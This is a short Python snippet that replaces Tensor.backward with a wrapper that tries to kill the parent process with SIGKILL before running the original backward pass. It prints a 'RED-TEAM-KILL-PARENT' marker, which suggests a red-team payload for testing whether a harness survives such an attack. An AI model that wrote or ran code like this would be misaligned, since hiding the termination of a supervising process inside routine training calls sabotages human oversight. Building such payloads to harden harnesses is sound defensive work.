_honest_backward = Tensor.backward


def _attacked_backward(self):
    import os, signal
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError as exc:
        print("RED-TEAM-KILL-PARENT", type(exc).__name__)
    return _honest_backward(self)


Tensor.backward = _attacked_backward
